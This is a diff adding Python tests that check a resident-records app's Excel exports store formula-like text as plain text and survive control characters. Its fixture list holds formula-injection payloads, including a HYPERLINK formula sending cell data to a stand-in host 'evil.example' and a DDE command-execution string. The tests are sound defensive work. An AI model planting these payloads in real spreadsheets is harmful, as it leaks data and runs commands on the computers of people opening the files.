@@ -70,3 +70,54 @@ def test_resident_exports_keep_id_numbers_and_phones_masked(city, street_officer
     assert first["重点人群"] == "独居老人"
     assert resident.id_number not in str(rows)
     assert AuditEntry.objects.get(action=AuditAction.EXPORT).changes["rows"] == 3
+
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def raw_sheet_xml(response) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text():
+    response = xlsx_response(filename="x.xlsx", headers=["姓名"], rows=iter([(v,) for v in FORMULA_LIKE]))
+    sheet = sheet_of(response)
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    # XML readers normalise a carriage return to a line feed; the text is otherwise unchanged.
+    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in FORMULA_LIKE]
+    assert all(c.data_type == "s" for c in cells)
+    # Marked as text for Excel too, so editing the cell later does not turn it into a formula.
+    assert all(c.quotePrefix for c in cells)
+
+
+def test_no_export_carries_a_formula_element():
+    response = xlsx_response(filename="x.xlsx", headers=["=标题"], rows=iter([(v, v) for v in FORMULA_LIKE]))
+    xml = raw_sheet_xml(response)
+    assert "<f>" not in xml and "<f " not in xml
+
+
+def test_audited_exports_are_neutralised_too(city, street_officer, actor):
+    response = audited_export(actor=actor(street_officer), object_type="people.resident", grid_code="420106001",
+                              filters={}, filename="x.xlsx", headers=["备注"], rows=iter([("=1+2",)]))
+    cell = next(sheet_of(response).iter_rows(min_row=2))[0]
+    assert cell.value == "=1+2" and cell.data_type == "s"
+
+
+def test_ordinary_text_and_numbers_are_untouched():
+    response = xlsx_response(filename="x.xlsx", headers=["a", "b", "c"], rows=iter([("张伟", -3, "1-2号楼")]))
+    cells = next(sheet_of(response).iter_rows(min_row=2))
+    assert [c.value for c in cells] == ["张伟", -3, "1-2号楼"]
+    assert not cells[0].quotePrefix and cells[1].data_type == "n"
+
+
+def test_characters_xml_cannot_hold_do_not_break_the_export():
+    # A control character typed or imported into a note used to raise IllegalCharacterError (a 500).
+    response = xlsx_response(filename="x.xlsx", headers=["备注"], rows=iter([("甲\x01乙\x1f丙",)]))
+    cell = next(sheet_of(response).iter_rows(min_row=2))[0]
+    assert cell.value == "甲\ufffd乙\ufffd丙"
